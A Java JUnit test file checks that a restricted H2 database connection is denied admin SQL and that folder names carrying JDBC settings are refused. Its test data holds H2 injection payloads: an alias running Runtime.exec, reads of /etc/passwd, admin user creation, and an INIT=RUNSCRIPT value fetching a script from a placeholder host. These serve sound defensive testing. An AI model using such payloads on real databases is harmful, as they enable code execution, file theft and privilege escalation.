package app.kontor.db;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.kontor.value.BusinessRuleException;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.util.Set;
import java.util.stream.Stream;
import org.h2.jdbcx.JdbcConnectionPool;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What SQL could do if some ever came in from outside: the connections that work touch rows and nothing else; a folder adds no setting. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class WorkerTest {
    /** H2: admin rights needed; not enough rights for an object; the schema, the function is not there for this user. */
    private static final Set<Integer> DENIED = Set.of(90040, 90096, 90022, 90079);

    private Path dir;
    private Database db;
    private JdbcConnectionPool workers;

    @BeforeAll
    void open(@TempDir Path temporary) {
        dir = temporary;
        ShopFolder folder = new ShopFolder(dir.resolve("shop"));
        db = ShopDatabase.create(folder, Clock.systemUTC(), "anna", "test");
        workers = new H2Settings(folder).workers();
    }

    @AfterAll
    void close() {
        workers.dispose();
        db.close();
    }

    @ParameterizedTest
    @MethodSource("admin")
    void theWorkerMayNot(String command) throws SQLException {
        try (Connection worker = workers.getConnection(); Statement sql = worker.createStatement()) {
            assertThatThrownBy(() -> sql.execute(command)).isInstanceOfSatisfying(SQLException.class,
                    denied -> assertThat(DENIED).as(denied.getMessage()).contains(denied.getErrorCode()));
        }
        assertThat(dir.resolve("out")).doesNotExist();
    }

    Stream<String> admin() {
        String out = "'" + dir.resolve("out") + "'";
        return Stream.of(
                "create alias run as 'void run() throws Exception { Runtime.getRuntime().exec(\"id\"); }'",
                "create alias prop for 'java.lang.System.getProperty'",
                "create trigger t before insert on setting call 'x.Y'", "create aggregate a for 'x.Y'",
                "select file_read('/etc/passwd')", "select file_write(x'00', " + out + ")",
                "select * from csvread('/etc/passwd')", "call csvwrite(" + out + ", 'select 1')",
                "script", "script to " + out, "runscript from '/etc/passwd'", "backup to " + out,
                "create table t (x int)", "drop table setting", "alter table setting add x int",
                "create index i on setting(name)", "create view v as select 1", "create schema s", "create sequence s", "drop all objects",
                "create user eve password '' admin", "alter user kontor admin true", "alter user kontor_owner set password 'x'",
                "drop user kontor_owner", "grant all on schema public to kontor", "create role r",
                "create linked table l ('org.h2.Driver', 'jdbc:h2:mem:', '', '', 'x')", "call link_schema('x', '', 'jdbc:h2:mem:', '', '', 'public')",
                "shutdown", "shutdown immediately", "checkpoint sync", "set write_delay 500", "set mode regular", "set trace_level_file 4",
                "set cluster 'x'", "set exclusive 1", "set allow_literals none", "analyze");
    }

    @Test
    void theWorkerMayDoItsWork() throws SQLException {
        try (Connection worker = workers.getConnection(); Statement sql = worker.createStatement()) {
            assertThat(sql.executeQuery("select count(*) from setting").next()).isTrue();
            assertThat(sql.executeUpdate("delete from setting where 1 = 0")).isZero();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "a;INIT=RUNSCRIPT FROM 'http://x.example/x.sql'", "a;TRACE_LEVEL_FILE=4", "a;CIPHER=AES", "a\\;b", ";", "a;AUTO_SERVER=TRUE",
        "x;IFEXISTS=FALSE;FORBID_CREATION=FALSE"})
    void aFolderThatWouldBeASettingIsRefused(String name) {
        assertThatThrownBy(() -> new ShopFolder(dir.resolve(name))).isInstanceOfSatisfying(BusinessRuleException.class,
                refused -> assertThat(refused.key()).isEqualTo("shop.badFolder"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"a b", "Łódź", "%41", "a=b,c", "{x}", "~", "mem:x", "a'b", "a?INIT=x", "a#b", "nio:x", "..x"})
    void anyOtherFolderIsTakenAsItIsWritten(String name) {
        Path folder = dir.resolve(name);
        ShopDatabase.create(new ShopFolder(folder), Clock.systemUTC(), "anna", "test").close();
        assertThat(Files.isRegularFile(folder.resolve("shop.mv.db"))).isTrue();
    }

    @Test
    void aNulByteIsNoPath() {
        assertThatThrownBy(() -> ShopFolder.of("a\u0000b")).isInstanceOf(InvalidPathException.class);
    }
}
